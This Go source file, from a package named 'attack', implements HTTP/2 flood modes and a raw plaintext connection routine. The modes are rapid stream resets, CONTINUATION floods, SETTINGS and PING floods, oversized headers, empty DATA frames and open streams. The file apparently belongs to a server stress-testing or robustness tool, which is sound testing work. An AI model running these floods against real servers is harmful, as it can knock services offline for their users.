package attack

import (
	"context"
	"encoding/binary"
	"strings"
)

// flood writes frames, and reads nothing.
func (c *conn) flood(g *Clients, to *address, first int) (sent bool) {
	text := ""
	if len(g.Send) > 0 {
		text = g.Send[0].text(to, first)
	}
	begin := func(flags byte) []byte {
		c.h2.last += 2
		header, _, _ := request2(text)
		return frame(frameHeaders, flags, c.h2.last-1, header)
	}
	for k := range max(g.Times, 1) {
		var out []byte
		switch g.Flood {
		case Resets:
			opens, id, body, _ := c.h2.open(text)
			piece, _ := dataFrame(id, body)
			out = append(append(opens, piece...), frame(frameReset, 0, id, binary.BigEndian.AppendUint32(nil, 8))...)
		case Continuations:
			if k == 0 {
				out = begin(0)
			}
			out = append(out, frame(frameContinuation, 0, c.h2.last-1, field(nil, "x", strings.Repeat("x", 8<<10)))...)
		case ManySettings:
			out = []byte(settings(settingWindow, uint32(k)&0xffff, settingFrame, 16<<10))
		case Pings:
			out = frame(framePing, 0, 0, make([]byte, 8))
		case LargeHeader:
			out, _, _, _ = c.h2.open(strings.Replace(text, "\r\n", "\r\nX-Large: "+long(1<<20)+"\r\n", 1))
		case EmptyData:
			if k == 0 {
				out = begin(endHeaders)
			}
			out = append(out, frame(frameData, 0, c.h2.last-1, nil)...)
		case OpenHeaders:
			out = begin(endHeaders)
		}
		if _, err := c.Write(out); err != nil {
			return false
		}
	}
	return true
}

// placePlain connects, and does not begin to speak TLS as it should.
func (r *run) placePlain(ctx context.Context, g *Clients, i int) placed {
	c, err := r.dialPlain(ctx, g.from(i))
	if err != nil {
		r.result.note("no connection", "")
		return placed{}
	}
	p := placed{conn: newConn(c, r.patience), then: g.Then, to: r.to, from: g.from(i)}
	_, _ = p.Write([]byte(g.Bytes))
	return p
}
